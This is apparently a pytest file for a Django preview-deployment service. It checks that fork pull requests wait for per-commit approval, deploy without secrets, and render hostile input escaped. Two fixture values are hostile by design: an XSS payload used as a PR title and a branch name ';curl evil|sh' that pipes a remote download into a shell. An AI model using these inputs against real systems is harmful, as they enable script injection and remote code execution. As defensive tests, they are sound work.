"""Pull requests from forks: held until an approver approves one commit,
deployed without secrets, held again by every later push; GitHub's reference payloads, signed."""

from __future__ import annotations

import pytest
from django.urls import reverse

from approvals.models import AuditEvent
from deployments.models import Build, Deploy, Preview, WebhookDelivery
from deployments.services.previews import COMMENT_MARKER, preview_deploy_for_build
from hotdash.integrations import fly_client
from tests.previews.conftest import (
    fork_payload,
    fork_pull_open,
    fork_pull_push,
    preview_deploys,
    preview_of,
    undelivered,
)

HTMX = {"HTTP_HX_REQUEST": "true"}
EVIL_TITLE = "<img src=x onerror=alert(1)>"
EVIL_BRANCH = ";curl evil|sh"


def comments_on(world, number: int) -> list[dict]:
    return [c for c in world.github.comments.values() if c["number"] == number]


def fly_calls(world) -> list:
    return world.calls(service="fly")


def approve(client, preview: Preview, sha: str, comment: str = "", **extra):
    url = reverse("deployments:preview-approve", args=[preview.pk])
    return client.post(url, {"sha": sha, "comment": comment}, **extra)


@pytest.fixture
def held(world, post_delivery, process_deliveries):
    """mallory's fork PR, opened with a hostile title and branch, processed: held."""
    number = fork_pull_open(world, post_delivery, EVIL_TITLE, EVIL_BRANCH)
    [delivery] = process_deliveries()
    assert delivery.state == WebhookDelivery.State.PROCESSED, delivery.detail
    return preview_of(number)


def test_a_fork_pr_is_held_with_no_fly_app_and_the_comment_asks_for_approval(
    world, post_delivery, process_deliveries
):
    before = len(fly_calls(world))
    number = fork_pull_open(world, post_delivery, EVIL_TITLE, EVIL_BRANCH)
    [delivery] = process_deliveries()
    assert delivery.state == WebhookDelivery.State.PROCESSED, delivery.detail
    assert "awaits maintainer approval" in delivery.detail

    preview = preview_of(number)
    head = world.github.pulls[number]["head_sha"]
    assert preview.state == Preview.State.AWAITING_APPROVAL and preview.is_fork
    assert (preview.pr_title, preview.branch) == (EVIL_TITLE, EVIL_BRANCH)
    assert (preview.pr_author, preview.head_sha, preview.approved_sha) == ("mallory", head, "")
    assert len(fly_calls(world)) == before  # no app, no secrets, no machines: not even a read
    assert f"hot-dash-pr-{number}" not in world.fly.apps
    assert preview_deploys(number) == [] and not Build.objects.filter(commit_sha=head).exists()

    [comment] = comments_on(world, number)
    body = comment["body"]
    assert body.startswith(COMMENT_MARKER) and "**Awaiting approval**" in body
    assert "a maintainer must approve" in body and f"`{head[:7]}`" in body
    assert "never receive secrets" in body
    assert EVIL_TITLE not in body and EVIL_BRANCH not in body
    event = AuditEvent.objects.get(verb="preview.held", target_id=str(preview.pk))
    assert event.actor_name == "github" and event.data["head_sha"] == head
    assert event.data["removes_app"] is False

    # A redelivered or repeated "opened" for the same commit changes nothing.
    assert post_delivery("pull_request", fork_payload(world, "opened", number)).status_code == 202
    process_deliveries()
    assert AuditEvent.objects.filter(verb="preview.held").count() == 1
    assert len(fly_calls(world)) == before and len(comments_on(world, number)) == 1


def test_hostile_title_and_branch_render_escaped_and_only_approvers_see_approve(
    held, client, viewer, requester, approver
):
    for user, page in ((viewer, "preview-list"), (requester, "preview-list")):
        client.force_login(user)
        html = client.get(reverse(f"deployments:{page}")).content.decode()
        assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
        assert f'<td data-label="Branch" class="mono">{EVIL_BRANCH}</td>' in html
        assert "Awaiting approval" in html and held.head_sha[:7] in html
        assert "mallory" in html
        assert reverse("deployments:preview-approve", args=[held.pk]) not in html
        assert "Only an approver or admin can approve" in html
        assert ">Redeploy</button>" not in html and ">Wake</button>" not in html
        assert held.url not in html  # no app, so no link to one

    client.force_login(approver)
    for page in (
        reverse("deployments:preview-list"),
        reverse("deployments:preview-detail", args=[held.pk]),
    ):
        html = client.get(page).content.decode()
        assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
        assert reverse("deployments:preview-approve", args=[held.pk]) in html
        assert f'name="sha" value="{held.head_sha}"' in html
        assert f"Approve {held.head_sha[:7]}" in html


def test_an_approver_approves_one_commit_which_deploys_without_secrets(
    world, driver, held, client, approver
):
    number, sha = held.pr_number, held.head_sha
    fly_app = f"hot-dash-pr-{number}"
    client.force_login(approver)
    response = approve(client, held, sha, "looked at the diff", **HTMX)
    assert response.status_code == 200, response.content
    assert response.content.decode().lstrip().startswith(f'<tr id="preview-{held.pk}"')
    assert "Approved" in response.content.decode()

    preview = preview_of(number)
    assert preview.state == Preview.State.CREATING
    assert (preview.approved_sha, preview.approved_by) == (sha, approver)
    assert fly_app in world.fly.apps
    [deploy] = preview_deploys(number)
    assert deploy.commit_sha == sha and deploy.requested_by == approver
    assert deploy.state == Deploy.State.QUEUED
    event = AuditEvent.objects.get(verb="preview.approved", target_id=str(preview.pk))
    assert event.actor_name == "approver" and event.ip == "127.0.0.1"
    assert event.data["sha"] == sha and event.data["comment"] == "looked at the diff"

    assert driver.run(deploy).state == Deploy.State.SUCCEEDED
    with fly_client() as fly:
        [machine] = fly.list_machines(fly_app)
    assert machine.image == deploy.image_ref
    # No secrets: none on the app, none ever set, staging's never even read.
    assert world.fly.secrets.get(fly_app, {}) == {}
    assert world.calls(method="POST", path=rf"/apps/{fly_app}/secrets") == []
    assert world.calls(path=r"/apps/hot-dash-staging/secrets") == []
    assert preview_of(number).secret_names == []
    [comment] = comments_on(world, number)
    assert "**Creating**" in comment["body"] and f"Deploying `{sha[:7]}`" in comment["body"]


def test_a_push_after_approval_holds_the_new_commit_and_removes_the_app(
    world, driver, held, client, approver, requester, post_delivery, process_deliveries
):
    number, approved = held.pr_number, held.head_sha
    fly_app = f"hot-dash-pr-{number}"
    client.force_login(approver)
    assert approve(client, held, approved).status_code == 302
    [first] = preview_deploys(number)
    assert driver.run(first).state == Deploy.State.SUCCEEDED

    newer = fork_pull_push(world, post_delivery, number)
    [delivery] = process_deliveries()
    assert delivery.state == WebhookDelivery.State.PROCESSED, delivery.detail
    preview = preview_of(number)
    assert preview.state == Preview.State.AWAITING_APPROVAL
    assert (preview.head_sha, preview.approved_sha) == (newer, approved)
    assert fly_app not in world.fly.apps  # the safer choice: nothing of the fork keeps running
    assert [d.commit_sha for d in preview_deploys(number)] == [approved]
    event = AuditEvent.objects.filter(verb="preview.held").latest("id")
    assert event.data["head_sha"] == newer and event.data["removes_app"] is True
    [comment] = comments_on(world, number)
    assert "**Awaiting approval**" in comment["body"]
    assert f"`{newer[:7]}`" in comment["body"] and "was removed" in comment["body"]
    page = client.get(reverse("deployments:preview-list")).content.decode()
    assert "its app was removed" in page and f'value="{newer}"' in page

    # Nothing else deploys the new commit: its build arriving, Redeploy, Wake.
    fly_before = len(world.calls(service="fly"))
    build = Build.objects.create(
        app=preview.app,
        commit_sha=newer,
        image_ref=first.image_ref,
        image_digest=first.image_digest,
    )
    assert preview_deploy_for_build(build=build) == []
    client.force_login(requester)
    for action in ("preview-redeploy", "preview-wake"):
        refused = client.post(reverse(f"deployments:{action}", args=[preview.pk]), **HTMX)
        assert refused.status_code == 409 and "must approve" in refused.content.decode()
    assert len(world.calls(service="fly")) == fly_before
    assert [d.commit_sha for d in preview_deploys(number)] == [approved]

    # The old approval does not carry over; the new commit needs its own.
    client.force_login(approver)
    stale = approve(client, preview, approved, **HTMX)
    assert stale.status_code == 409 and "no longer the head of the PR" in stale.content.decode()
    assert approve(client, preview, newer).status_code == 302
    assert preview_deploys(number)[-1].commit_sha == newer
    assert fly_app in world.fly.apps and world.fly.secrets.get(fly_app, {}) == {}


@pytest.mark.parametrize("who", ["requester", "viewer", "outsider"])
def test_only_approvers_may_approve_others_get_403_audited(world, held, client, request, who):
    user = request.getfixturevalue(who)
    client.force_login(user)
    before = len(fly_calls(world))
    response = approve(client, held, held.head_sha, "let me")
    assert response.status_code == 403
    assert "Only approvers and admins may approve" in response.content.decode()
    preview = preview_of(held.pr_number)
    assert preview.state == Preview.State.AWAITING_APPROVAL and preview.approved_sha == ""
    assert len(fly_calls(world)) == before and preview_deploys(held.pr_number) == []
    event = AuditEvent.objects.get(verb="preview.approval_refused")
    assert event.actor_name == user.username and event.data["reason"] == "not_approver"
    assert event.data["sha"] == held.head_sha
    assert not AuditEvent.objects.filter(verb="preview.approved").exists()


def test_bad_approval_input_is_refused_and_changes_nothing(held, client, approver):
    client.force_login(approver)
    for data in ({"sha": "not-a-sha"}, {"sha": held.head_sha, "comment": "x" * 1001}):
        url = reverse("deployments:preview-approve", args=[held.pk])
        response = client.post(url, data, **HTMX)
        assert response.status_code == 409 and "Nothing was approved" in response.content.decode()
    assert preview_of(held.pr_number).state == Preview.State.AWAITING_APPROVAL
    assert client.get(url).status_code == 405


def test_closing_a_held_pr_records_it_destroyed_without_fly_calls(
    world, held, post_delivery, process_deliveries
):
    number = held.pr_number
    before = len(fly_calls(world))
    with undelivered(world):
        world.close_pull(number)
    assert post_delivery("pull_request", fork_payload(world, "closed", number)).status_code == 202
    [delivery] = process_deliveries()
    assert delivery.state == WebhookDelivery.State.PROCESSED, delivery.detail
    preview = preview_of(number)
    assert preview.state == Preview.State.DESTROYED and preview.destroyed_at is not None
    assert len(fly_calls(world)) == before
    event = AuditEvent.objects.get(verb="preview.destroyed", target_id=str(preview.pk))
    assert event.data["from"] == Preview.State.AWAITING_APPROVAL
    [comment] = comments_on(world, number)
    assert "**Destroyed**" in comment["body"]


def test_destroying_a_held_preview_from_the_page_makes_no_fly_call(world, held, client, requester):
    url = reverse("deployments:preview-destroy", args=[held.pk])
    before = len(fly_calls(world))
    client.force_login(requester)
    assert "none yet: only the record is closed" in client.get(url).content.decode()
    response = client.post(url, **HTMX)
    assert response.status_code == 200 and "Destroyed" in response.content.decode()
    assert preview_of(held.pr_number).state == Preview.State.DESTROYED
    assert len(fly_calls(world)) == before
